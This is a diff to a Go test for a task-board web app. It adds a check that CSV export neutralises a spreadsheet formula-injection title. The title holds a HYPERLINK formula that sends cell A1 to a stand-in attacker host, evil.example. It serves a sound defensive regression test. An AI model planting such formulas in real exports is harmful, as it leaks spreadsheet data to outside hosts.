@@ -276,18 +276,23 @@ func TestAgentBoard(t *testing.T) {
 		t.Errorf("inviting someone without an account: got %d %+v, want 400 at /email", status, d)
 	}
 
+	// A title a spreadsheet would run as a formula is exported as text.
+	if status, d = alice.call(page, "createTask", map[string]any{"title": `=HYPERLINK("https://evil.example/?"&A1,"open")`}, false); status != http.StatusOK {
+		t.Fatalf("createTask: got %d %+v", status, d)
+	}
 	status, d = alice.call(page, "exportTasks", nil, false)
 	if status != http.StatusOK || d.Redirect != page+"/tasks.csv" {
 		t.Fatalf("exportTasks: got %d %+v", status, d)
 	}
 	resp, csv := alice.do(http.MethodGet, d.Redirect, "", nil)
 	if resp.StatusCode != http.StatusOK || resp.Header.Get("Content-Type") != "text/csv; charset=utf-8" ||
-		!strings.HasPrefix(string(csv), "id,title,status,assignee,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,alice@example.com,") {
+		!strings.HasPrefix(string(csv), "id,title,status,assignee,due\n") || !strings.Contains(string(csv), ",Reserve the cottage,done,alice@example.com,") ||
+		!strings.Contains(string(csv), `,"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",todo,`) {
 		t.Errorf("the CSV: got %d %q\n%s", resp.StatusCode, resp.Header.Get("Content-Type"), csv)
 	}
 
 	status, d = alice.call(page, "deleteBoard", nil, false)
-	if status != http.StatusPreconditionRequired || d.Error.Code != affordances.ConfirmRequired || d.Error.Message != `Delete the board "Team offsite" and its 5 tasks.` {
+	if status != http.StatusPreconditionRequired || d.Error.Code != affordances.ConfirmRequired || d.Error.Message != `Delete the board "Team offsite" and its 6 tasks.` {
 		t.Fatalf("deleteBoard without confirm: got %d %+v", status, d.Error)
 	}
 	if status, _ := alice.graph(page); status != http.StatusOK {
